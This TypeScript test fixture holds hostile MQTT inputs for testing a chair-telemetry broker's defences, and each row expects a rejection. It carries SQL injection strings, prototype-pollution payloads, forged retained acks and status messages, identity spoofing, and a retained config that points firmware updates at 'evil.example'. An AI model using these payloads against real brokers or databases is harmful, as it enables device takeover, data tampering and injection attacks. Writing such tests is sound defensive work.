// What a hostile or broken chair sends: payloads that are not telemetry, packets over the limit,
// topics no chair owns, retained messages meant to stick, wildcard subscriptions and borrowed
// identities. Rows run in hostile-mqtt.test.ts as the "attacker" chair, next to a victim chair.
import { publishPacket, subscribePacket, announcePacket } from '../helpers/raw-mqtt.ts';
import { sample } from '../helpers/telemetry-fixture.ts';
import type { Ids, MqttCase } from './hostile-mqtt.ts';

const tel = (id: string) => `atensi/chairs/${id}/telemetry`;
const status = (id: string) => `atensi/chairs/${id}/status`;
const ack = (id: string) => `atensi/chairs/${id}/ack`;
const own = (ids: Ids) => tel(ids.attacker);

let boot = 0;
/** A valid sample of a boot of its own (so no row is a duplicate of another), then `edit`ed. */
function sampleWith(edit: (s: Record<string, any>) => void = () => undefined): string {
  const s = JSON.parse(sample(0, {}, `hostile-${++boot}`)) as Record<string, any>;
  edit(s);
  return JSON.stringify(s);
}

export const mqttCases: MqttCase[] = [
  // payloads on the attacker's own telemetry topic
  { name: 'truncated JSON', category: 'payload', input: { publish: { topic: own, payload: '{"v":1,"bootId":' } }, expect: { connection: 'open', rejected: 'bad_json' } },
  { name: 'an empty payload', category: 'payload', input: { publish: { topic: own, payload: '' } }, expect: { connection: 'open', rejected: 'bad_json' } },
  { name: 'bytes that are not UTF-8', category: 'payload', input: { publish: { topic: own, payload: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]) } }, expect: { connection: 'open', rejected: 'not_utf8' } },
  { name: 'an overlong UTF-8 sequence', category: 'payload', input: { publish: { topic: own, payload: Buffer.concat([Buffer.from('{"v":1,"bootId":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]) } }, expect: { connection: 'open', rejected: 'not_utf8' } },
  { name: 'a NaN literal', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith().replace(/"socPct":\d+/, '"socPct":NaN') } }, expect: { connection: 'open', rejected: 'bad_json' } },
  { name: 'state of charge 1e999 (Infinity)', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith().replace(/"socPct":\d+/, '"socPct":1e999') } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'state of charge -5 %', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.battery.socPct = -5)) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'a current of 301 A', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.battery.currentA = 301)) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'a negative odometer', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.usage.odometerM = -1)) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'a negative sequence number', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.seq = -1)) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'a device clock ten days ahead', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.ts = Date.now() + 10 * 86_400_000)) } }, expect: { connection: 'open', rejected: 'future_timestamp' } },
  { name: '__proto__ key', category: 'payload', input: { publish: { topic: own, payload: () => `{"__proto__":{"polluted":true},${sampleWith().slice(1)}` } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'constructor.prototype key', category: 'payload', input: { publish: { topic: own, payload: () => `{"constructor":{"prototype":{"polluted":true}},${sampleWith().slice(1)}` } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'an unknown field', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.firmwareSecret = 'x')) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'SQL in the boot id', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.bootId = "x'; DROP TABLE telemetry_raw;--")) } }, expect: { connection: 'open', rejected: 'schema' } },
  { name: 'a 3 KB sample (over the 2 KiB contract)', category: 'payload', input: { publish: { topic: own, payload: () => sampleWith((s) => (s.faults = Array.from({ length: 16 }, () => ({ code: 'X'.repeat(160), active: true })))) } }, expect: { connection: 'open', rejected: 'oversize' } },
  { name: 'a status that is not online or offline', category: 'payload', input: { publish: { topic: (ids) => status(ids.attacker), payload: '{"v":1,"state":"pwned"}' } }, expect: { connection: 'open', rejected: 'schema' } },

  // packets over the limit
  { name: 'a 64 KB publish (over the 16 KiB packet limit)', category: 'packet', input: { publish: { topic: own, payload: 'x'.repeat(64 * 1024) } }, expect: { connection: 'closed', rejected: 'oversize' } },
  { name: 'a header announcing 256 MB', category: 'packet', input: { raw: announcePacket(0x30, 256 * 1024 * 1024 - 1) }, expect: { connection: 'closed', rejected: 'oversize' } },
  { name: 'a remaining length of five bytes (malformed)', category: 'packet', input: { raw: Buffer.from([0x30, 0xff, 0xff, 0xff, 0xff, 0x01]) }, expect: { connection: 'closed' } },

  // topics
  { name: 'a topic of 150 levels', category: 'topic', input: { raw: (ids) => publishPacket(`${tel(ids.attacker)}${'/x'.repeat(146)}`, sampleWith()) }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a zero-length topic', category: 'topic', input: { raw: publishPacket('', '{}') }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a zero-length level where the device id goes', category: 'topic', input: { publish: { topic: 'atensi/chairs//telemetry', payload: () => sampleWith() } }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a trailing empty level', category: 'topic', input: { publish: { topic: (ids) => `${tel(ids.attacker)}/`, payload: () => sampleWith() } }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a leading empty level', category: 'topic', input: { publish: { topic: (ids) => `/${tel(ids.attacker)}`, payload: () => sampleWith() } }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a wildcard in a publish topic', category: 'topic', input: { raw: publishPacket('atensi/chairs/+/telemetry', '{}') }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a publish into $SYS', category: 'topic', input: { publish: { topic: '$SYS/broker/clients/connected', payload: '9999' } }, expect: { connection: 'closed', rejected: 'unknown_topic' } },

  // other chairs' topics and the server's
  { name: 'telemetry on the victim\'s topic', category: 'acl', input: { publish: { topic: (ids) => tel(ids.victim), payload: () => sampleWith() } }, expect: { connection: 'closed', rejected: 'topic_mismatch' } },
  { name: 'an offline status for the victim', category: 'acl', input: { publish: { topic: (ids) => status(ids.victim), payload: '{"v":1,"state":"offline"}' } }, expect: { connection: 'closed', rejected: 'topic_mismatch' } },
  { name: 'a forged ack on the attacker\'s own ack topic', category: 'acl', input: { publish: { topic: (ids) => ack(ids.attacker), payload: '{"v":1,"bootId":"b","seq":999999}' } }, expect: { connection: 'closed', rejected: 'forbidden' } },

  // retained messages meant to stick
  { name: 'a retained forged ack for the victim', category: 'retained', input: { publish: { topic: (ids) => ack(ids.victim), payload: '{"v":1,"bootId":"victim-boot","seq":999999}', retain: true } }, expect: { connection: 'closed', rejected: 'forbidden' } },
  { name: 'an empty retained message clearing the victim\'s ack', category: 'retained', input: { publish: { topic: (ids) => ack(ids.victim), payload: '', retain: true } }, expect: { connection: 'closed', rejected: 'forbidden' } },
  { name: 'a retained online status for the victim', category: 'retained', input: { publish: { topic: (ids) => status(ids.victim), payload: () => JSON.stringify({ v: 1, state: 'online', bootId: 'forged', fw: '6.6.6', ts: Date.now() }), retain: true } }, expect: { connection: 'closed', rejected: 'topic_mismatch' } },
  { name: 'a retained message on a topic no chair owns', category: 'retained', input: { publish: { topic: (ids) => `atensi/chairs/${ids.attacker}/config`, payload: '{"ota":"http://evil.example/fw.bin"}', retain: true } }, expect: { connection: 'closed', rejected: 'unknown_topic' } },
  { name: 'a retained sample on the attacker\'s own telemetry', category: 'retained', input: { publish: { topic: own, payload: () => sampleWith(), retain: true } }, expect: { connection: 'open', stored: 1 } },

  // subscriptions
  { name: 'subscribe to #', category: 'subscription', input: { subscribe: '#' }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'subscribe to every chair\'s telemetry (+/chairs/+/telemetry)', category: 'subscription', input: { subscribe: '+/chairs/+/telemetry' }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'subscribe to every chair\'s ack', category: 'subscription', input: { subscribe: 'atensi/chairs/+/ack' }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'subscribe to the victim\'s ack', category: 'subscription', input: { subscribe: (ids) => ack(ids.victim) }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'subscribe to $SYS/#', category: 'subscription', input: { subscribe: '$SYS/#' }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'subscribe below the attacker\'s own topics (#)', category: 'subscription', input: { subscribe: (ids) => `atensi/chairs/${ids.attacker}/#` }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'join the bridge\'s shared subscription', category: 'subscription', input: { subscribe: '$share/atensi-bridge/atensi/chairs/+/telemetry' }, expect: { connection: 'open', subscription: 'refused', rejected: 'forbidden' } },
  { name: 'a SUBSCRIBE of 150 levels (raw)', category: 'subscription', input: { raw: subscribePacket(`atensi${'/+'.repeat(149)}`) }, expect: { connection: 'closed', rejected: 'unknown_topic' } },

  // borrowed identities
  { name: 'the victim\'s id and username with the attacker\'s secret', category: 'identity', input: { connect: { clientId: (ids) => ids.victim, username: (ids) => ids.victim, password: (ids) => ids.attackerSecret } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'the attacker\'s username with the victim\'s client id', category: 'identity', input: { connect: { clientId: (ids) => ids.victim, username: (ids) => ids.attacker, password: (ids) => ids.attackerSecret } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'the victim\'s id with an empty password', category: 'identity', input: { connect: { clientId: (ids) => ids.victim, username: (ids) => ids.victim, password: '' } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'the bridge\'s client id with the attacker\'s credentials', category: 'identity', input: { connect: { clientId: (ids) => ids.bridgeClientId, username: (ids) => ids.attacker, password: (ids) => ids.attackerSecret } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'the bridge\'s username and client id with a guessed password', category: 'identity', input: { connect: { clientId: (ids) => ids.bridgeClientId, username: (ids) => ids.bridgeUsername, password: 'atensi-bridge' } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'SQL as the username', category: 'identity', input: { connect: { clientId: "' OR '1'='1", username: "' OR '1'='1", password: "' OR '1'='1" } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
  { name: 'a client id of 5 000 characters', category: 'identity', input: { connect: { clientId: 'a'.repeat(5000), username: 'a'.repeat(5000), password: (ids) => ids.attackerSecret } }, expect: { connection: 'refused', rejected: 'auth_failed' } },
];
